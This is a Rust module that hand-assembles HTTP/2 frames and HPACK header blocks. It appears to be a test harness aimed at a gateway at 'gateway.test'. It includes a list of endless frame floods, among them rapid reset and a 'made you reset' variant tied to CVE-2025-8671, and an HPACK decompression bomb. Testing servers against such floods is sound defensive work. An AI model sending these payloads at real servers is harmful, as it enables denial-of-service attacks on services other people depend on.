//! HTTP/2 frame by frame, so that also what no library would write can be sent. It understands next to nothing of what
//! comes back.

use std::{io, net::SocketAddr};

use tokio::{
    io::{AsyncRead, AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
};

/// What a client begins with.
pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// Kinds of frames (RFC 9113 §6).
pub const DATA: u8 = 0;
/// A request's head, or its first part.
pub const HEADERS: u8 = 1;
/// Deprecated.
pub const PRIORITY: u8 = 2;
/// The end of a stream before its time.
pub const RESET: u8 = 3;
/// Parameters of the connection.
pub const SETTINGS: u8 = 4;
/// To be answered.
pub const PING: u8 = 6;
/// No further streams.
pub const GOAWAY: u8 = 7;
/// More may be sent.
pub const WINDOW_UPDATE: u8 = 8;
/// A head's further part.
pub const CONTINUATION: u8 = 9;
/// The flag of a stream's last frame.
pub const END_STREAM: u8 = 1;
/// The flag of a head's last frame.
pub const END_HEADERS: u8 = 4;
/// The flag of a frame with padding.
pub const PADDED: u8 = 8;

/// A name and a value.
pub type Field<'a> = (&'a str, &'a str);

/// What a request needs.
pub const PSEUDO: [Field<'static>; 4] =
    [(":method", "GET"), (":scheme", "http"), (":authority", "gateway.test"), (":path", "/app/x")];

/// The bytes of a frame.
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// Literal fields, never indexed, without Huffman's code (RFC 7541 §6.2.2).
pub fn block(fields: &[Field<'_>]) -> Vec<u8> {
    let mut block = Vec::new();
    for (name, value) in fields {
        block.push(0);
        for text in [name, value] {
            length(&mut block, text.len());
            block.extend(text.as_bytes());
        }
    }
    block
}

/// A length in seven bits and, where they are too few, in further bytes (RFC 7541 §5.1).
pub fn length(block: &mut Vec<u8>, length: usize) {
    let Some(mut rest) = length.checked_sub(127) else {
        return block.push((length & 0x7f) as u8);
    };
    block.push(127);
    while rest > 127 {
        block.push((rest & 0x7f) as u8 | 0x80);
        rest >>= 7;
    }
    block.push(rest as u8);
}

/// A request without content.
pub fn get(stream: u32) -> Vec<u8> {
    frame(HEADERS, END_STREAM | END_HEADERS, stream, &block(&PSEUDO))
}

/// The same with another path, and with content that is to come where it is a POST.
pub fn ask(stream: u32, method: &str, path: &str) -> Vec<u8> {
    let [_, scheme, authority, _] = PSEUDO;
    let end = if method == "GET" { END_STREAM } else { 0 };
    let fields = [(":method", method), scheme, authority, (":path", path)];
    frame(HEADERS, end | END_HEADERS, stream, &block(&fields))
}

/// A connection that has begun as it should, with these settings.
pub async fn open(address: SocketAddr, settings: &[u8]) -> io::Result<TcpStream> {
    let mut stream = TcpStream::connect(address).await?;
    stream.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, settings)].concat()).await?;
    Ok(stream)
}

/// What comes next: kind, stream, payload. `None` when the connection ends.
pub async fn next(stream: &mut (impl AsyncRead + Unpin)) -> Option<(u8, u32, Vec<u8>)> {
    let mut head = [0; 9];
    stream.read_exact(&mut head).await.ok()?;
    let [a, b, c, kind, _, id @ ..] = head;
    let mut payload = vec![0; usize::try_from(u32::from_be_bytes([0, a, b, c])).ok()?];
    stream.read_exact(&mut payload).await.ok()?;
    Some((kind, u32::from_be_bytes(id), payload))
}

/// A piece of an attack, by its number.
pub type Piece = fn(u32) -> Vec<u8>;

/// What is sent without end, each with what comes before it. All of them have to end with their connection.
pub fn floods() -> Vec<(&'static str, Vec<u8>, Piece)> {
    let begun = frame(HEADERS, END_STREAM, 1, &block(&PSEUDO));
    let content = ask(1, "POST", "/app/stall");
    vec![
        ("pings", Vec::new(), |_| frame(PING, 0, 0, &[0; 8])),
        ("settings", Vec::new(), |_| frame(SETTINGS, 0, 0, &[])),
        ("table sizes", Vec::new(), |_| frame(SETTINGS, 0, 0, &[0, 1, 0, 0, 0, 0])),
        ("priorities", Vec::new(), |_| frame(PRIORITY, 0, 1, &[0, 0, 0, 3, 1])),
        ("unknown frames", Vec::new(), |_| frame(0xfa, 0, 0, &[0; 8])),
        ("continuations", begun, |_| frame(CONTINUATION, 0, 1, &block(&[("x", "y")]))),
        ("rapid reset", Vec::new(), |number| {
            let id = number * 2 + 1;
            [get(id), frame(RESET, 0, id, &[0, 0, 0, 8])].concat()
        }),
        // More than a window may hold: an error of this stream alone (RFC 9113 §6.9.1), CVE-2025-8671.
        ("made you reset", Vec::new(), |number| {
            let id = number * 2 + 1;
            [get(id), frame(WINDOW_UPDATE, 0, id, &[0x7f, 0xff, 0xff, 0xff])].concat()
        }),
        ("content after its end", Vec::new(), |number| {
            let id = number * 2 + 1;
            [get(id), frame(DATA, 0, id, b"more")].concat()
        }),
        ("windows by nothing", Vec::new(), |number| {
            let id = number * 2 + 1;
            [get(id), frame(WINDOW_UPDATE, 0, id, &[0; 4])].concat()
        }),
        ("empty content", content.clone(), |_| frame(DATA, 0, 1, &[])),
        ("nothing but padding", content.clone(), |_| {
            frame(DATA, PADDED, 1, &[&[200][..], &[0; 200]].concat())
        }),
        ("drops of content", content.clone(), |_| frame(DATA, 0, 1, b"x")),
        ("window updates", Vec::new(), |number| {
            // Never more than the window can hold.
            frame(WINDOW_UPDATE, 0, 0, &(1 + number % 2).to_be_bytes())
        }),
        ("updates of a stream's window", content, |_| frame(WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1])),
    ]
}

/// A head that is small on the wire and large when it is unpacked: one field of 3,000 bytes goes into the table, and is
/// then named again and again (RFC 7541 §6.1).
pub fn bomb(stream: u32) -> Vec<u8> {
    let mut head = block(&PSEUDO);
    // Literal with incremental indexing, new name.
    head.extend([0x40, 1, b'x']);
    length(&mut head, 3_000);
    head.extend([b'y'; 3_000]);
    // The latest entry of the table.
    head.extend([0x80 | 62; 12_000]);
    frame(HEADERS, END_STREAM | END_HEADERS, stream, &head)
}
